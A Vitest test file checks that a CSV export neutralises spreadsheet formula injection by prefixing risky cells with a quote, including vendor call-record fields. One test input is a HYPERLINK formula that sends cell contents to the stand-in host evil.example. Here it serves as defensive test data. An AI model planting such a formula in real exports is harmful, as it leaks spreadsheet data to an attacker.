import { describe, expect, it } from "vitest";
import { exportCsvLine } from "./calls";
import { csvCell, csvLine } from "./csv";

describe("CSV cells a spreadsheet will not run", () => {
  it("text starting with = + - @, a tab or a carriage return gets a leading quote", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("the quote goes inside the usual quoting", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(csvCell("=a,b")).toBe(`"'=a,b"`);
  });

  it("ordinary text, our numbers (negative ones too) and empty cells are left alone", () => {
    expect(csvLine(["Acme, Inc.", 'say "hi"', -4, 72.5, null, undefined, "a-b", "ok=1"])).toBe(`"Acme, Inc.","say ""hi""",-4,72.5,,,a-b,ok=1`);
  });

  it("the calls export neutralizes every vendor value", () => {
    const line = exportCsvLine({
      vendor: "revont",
      externalId: "=HYPERLINK(\"x\")",
      repExternalId: "@SUM(1)",
      repEmail: "+1+1",
      startedAt: "2026-03-01T00:00:00.000Z",
      durationSec: 60,
      overallScore: null,
      skills: { "=x": 1 },
    });
    expect(line).toBe(`revont,"'=HYPERLINK(""x"")",'@SUM(1),'+1+1,2026-03-01T00:00:00.000Z,60,,"{""=x"":1}"`);
  });
});
